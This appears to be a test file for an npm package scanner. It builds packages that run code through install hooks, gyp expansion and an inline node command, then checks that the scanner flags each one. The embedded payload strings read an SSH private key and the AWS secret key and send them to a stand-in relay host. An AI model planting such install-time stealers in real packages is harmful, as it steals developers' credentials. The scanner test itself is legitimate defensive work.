import assert from "node:assert/strict";
import type { Attack } from "../attack.ts";
import { inspect, usedHosts } from "./inspect.ts";
import { npmPackage } from "./pack.ts";

const steals =
  "const { homedir } = require('node:os');\nconst key = require('node:fs').readFileSync(homedir() + '/.ssh/id_ed25519');\nfetch('https://install.example-relay.net/', { method: 'POST', body: key });\n";
const shell =
  '#!/bin/sh\n# see https://docs.example-relay.org/\nexec python3 "$(dirname "$0")/stage.py"\n';
const python =
  'import os, urllib.request\nurllib.request.urlopen("https://install.example-relay.net/?" + os.environ["AWS_SECRET_ACCESS_KEY"])\n';

interface Way {
  readonly how: string;
  readonly event: string;
  readonly scripts?: Readonly<Record<string, string>>;
  readonly files: readonly (readonly [string, string])[];
  /** Names of files that have to be read as started. */
  readonly starts: readonly string[];
}

const ways: readonly Way[] = [
  {
    how: "a file of its own",
    event: "preinstall",
    scripts: { preinstall: "node setup.js" },
    files: [["setup.js", steals]],
    starts: ["setup.js"],
  },
  {
    how: "a file without ending, in a folder, behind variables and other commands",
    event: "postinstall",
    scripts: { postinstall: "cross-env A=1 node -r ./lib/first ./lib/second || exit 0" },
    files: [
      ["lib/first.js", "require('./third');\n"],
      ["lib/second.js", "\n"],
      ["lib/third.js", steals],
    ],
    starts: ["first.js", "second.js", "third.js"],
  },
  {
    how: "a shell script that starts a Python script",
    event: "install",
    scripts: { install: "npm run build", build: "sh scripts/run.sh" },
    files: [
      ["scripts/run.sh", shell],
      ["scripts/stage.py", python],
    ],
    starts: ["run.sh", "stage.py"],
  },
  {
    how: "code in the line itself",
    event: "postinstall",
    scripts: { postinstall: `node -e "${steals.replaceAll("\n", " ")}"` },
    files: [],
    starts: [],
  },
  {
    how: "what gyp expands while it reads its file",
    event: "install",
    files: [
      ["binding.gyp", "{'targets':[{'target_name':'a','sources':['<!(node build/list.js)']}]}\n"],
      ["build/list.js", steals],
    ],
    starts: ["binding.gyp", "list.js"],
  },
];

export const installScripts: Attack = {
  name: "install-scripts",
  title: "a package does its work while it is installed",
  async try(place) {
    for (const [index, { scripts, files }] of ways.entries()) {
      const manifest = { name: `early-${index}`, bin: "cli.js", ...(scripts && { scripts }) };
      place.write(
        `${place.folder}/${index}.tgz`,
        npmPackage([
          ["package/package.json", JSON.stringify(manifest)],
          ["package/cli.js", "#!/usr/bin/env node\nconsole.log('ready');\n"],
          ...files.map(([path, content]) => [`package/${path}`, content] as const),
        ]),
      );
    }
    const { report, code } = await inspect(place, place.folder);
    for (const [index, { how, event, starts }] of ways.entries()) {
      const script = report.started.find((each) => each.package === `early-${index}`);
      assert.equal(script?.event, event, how);
      assert.deepEqual(
        script.starts.map((path) => path.split("/").at(-1)).toSorted(),
        [...starts].toSorted(),
        how,
      );
      assert.deepEqual(script.names.hosts, ["install.example-relay.net"], how);
      const finding = report.findings.find(({ title }) => title.includes(`early-${index} `));
      assert.deepEqual([finding?.rule, finding?.severity], ["install-script", "high"], how);
    }
    assert.deepEqual(usedHosts(report), ["install.example-relay.net"]);
    assert.equal(code, 1);
    return "each script is told with its line, the files that it runs are read";
  },
};
